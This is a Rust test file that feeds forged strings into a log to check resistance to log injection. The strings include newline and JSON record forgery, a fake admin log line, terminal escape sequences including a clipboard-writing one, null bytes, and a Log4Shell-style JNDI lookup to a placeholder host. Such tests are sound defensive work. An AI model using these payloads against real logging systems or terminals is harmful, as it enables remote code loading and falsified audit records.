//! tries: to pose as other lines, as the host and as a terminal: line ends, JSON, escape sequences, nulls
//! stands-for: MON-1, INC-2
//! expect: ok
//! afterwards: logs

use portcullis_attack_guests::*;

attack!(|_| {
    for forged in [
        "first\nsecond",
        "\r\n{\"level\":\"error\",\"installation\":\"another\",\"message\":\"forged\"}\n",
        "\",\"level\":\"error\",\"x\":\"",
        "2026-10-05T08:00:00Z ERROR portcullis: the log was cleared by admin",
        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m \u{9b}31m \u{7}\u{8}",
        "\u{1b}]52;c;Zm9yZ2Vk\u{7}",
        "\u{0}null\u{0}",
        "next\u{85}line\u{2028}line\u{2029}paragraph\u{b}\u{c}",
        "\u{feff}mark \u{200b}\u{200c}\u{200d}\u{2060} joined",
        "%n%s{}{{}}${jndi:ldap://x.example.test/a}",
    ] {
        say(forged);
    }
    Ok(())
});
